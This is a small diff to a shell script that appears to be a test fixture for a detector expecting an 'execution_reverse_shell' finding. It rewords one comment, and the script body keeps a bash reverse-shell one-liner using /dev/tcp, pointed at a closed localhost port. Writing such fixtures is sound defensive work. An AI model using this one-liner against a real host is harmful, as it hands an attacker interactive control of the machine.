@@ -1,5 +1,5 @@
 #!/bin/sh
-# Shells call out, to a port that is closed.
+# Reverse shells to a closed port.
 # expects: execution_reverse_shell 4
 
 bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
